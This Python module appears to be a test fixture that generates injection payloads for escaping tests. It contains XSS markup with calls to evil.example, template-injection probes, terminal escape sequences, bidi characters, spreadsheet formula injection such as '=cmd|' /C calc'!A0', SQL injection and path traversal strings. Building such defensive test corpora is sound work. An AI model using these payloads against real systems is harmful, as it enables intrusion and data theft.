"""Texts that try to be more than text: mark-up, templates, terminal sequences, formulas, deceiving characters."""

from itertools import product

SCRIPTS = ["alert(1)", "fetch('//evil.example')", "document.body.innerHTML=''"]
MARKUP = [
    "<script>{}</script>",
    "</script><script>{}</script>",
    "<img src=x onerror={}>",
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    '"><img src=x onerror={}>',
    "'><svg/onload={}>",
    "</title><script>{}</script>",
    "</style><script>{}</script>",
    "</span></td></table><script>{}</script>",
    "<iframe srcdoc='<script>{}</script>'></iframe>",
    "<a href='javascript:{}'>click</a>",
    "<details open ontoggle={}>",
    "<body onload={}>",
    "<input autofocus onfocus={}>",
    "<math><mtext><style><img src onerror={}>",
    "<!--><script>{}</script>-->",
    "<![CDATA[<script>{}</script>]]>",
    '" onmouseover="{}',
    "' onfocus='{}' autofocus='",
    "<object data='data:text/html,<script>{}</script>'>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<base href=javascript:{}//>",
    "<link rel=stylesheet href=//evil.example/{}>",
    "<form action=//evil.example/{}><input name=x>",
    "<style>@import '//evil.example/{}'</style>",
    "<template><script>{}</script></template>",
    "<noscript><p title='</noscript><script>{}</script>'>",
    "<tspan onclick={}>x</tspan>",
    "&lt;script&gt;{}&lt;/script&gt;",
]
TEMPLATES = [
    "{{7*7}}",
    "{% for x in range(9) %}x{% endfor %}",
    "{# gone #}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{{ ''.__class__.__mro__ }}",
    "{{ config }}",
    "{0.__class__}",
    "{subject.__class__}",
    "%(subject)s",
    "{{request.application.__globals__}}",
    "{unknown}",
    "{",
    "}}",
]
TERMINAL = [
    "\x1b[2J\x1b[H",
    "\x1b]0;title\x07",
    "\x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x1b\\",
    "\x1b[31mred\x1b[0m",
    "\x9b31m",
    "fine\rFAIL",
    "a\x08\x08b",
    "\x00",
    "\x7f",
    "\x1bPq#0\x1b\\",
    "line\nblock: forged",
    "\x0b\x0c",
]
BIDI = [f"a{char}b" for char in "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c"]
FORMULAS = ["=1+1", "+1", "-1", "@SUM(A1)", '=HYPERLINK("http://evil.example")', "＝1", "\t=1", "=cmd|'/C calc'!A0"]
ODD = [
    "x" * 20000,
    "𝕳𝖊𝖑𝖑𝖔",
    "\ufeffbom",
    "zero\u200bwidth",
    "'; drop table person; --",
    "../../../etc/passwd",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "\u2028line",
    "&#60;script&#62;",
    "&amp;lt;",
    "]]>",
    "-->",
    "\\u003cscript\\u003e",
    "%3Cscript%3E",
    "＜script＞alert(1)＜/script＞",
]
PAYLOADS = [form.replace("{}", script) for form in MARKUP for script in SCRIPTS] + TEMPLATES + TERMINAL
PAYLOADS += [*BIDI, *FORMULAS, *ODD]

UNSEEN = ("\x1b", "\x00", "\x08", "\r", "\x7f", "\x9b", "\u202e", "\u2066", "\u200b", "\ufeff")
"""Characters that no page may hold."""

_LEADS = ("", " ", "\u3000", "'", '"', ",", ";", "\t", "\r", "\n", "\x00")
_SIGNS = ("=", "+", "-", "@", "＝", "＋", "－", "＠")
_BODIES = ("1+1", "SUM(A1:A9)", "cmd|' /C calc'!A0")
COMPUTING = [f"{lead}{sign}{body}" for lead, sign, body in product(_LEADS, _SIGNS, _BODIES)]
"""Cells that a spreadsheet would compute, with what may stand before them."""
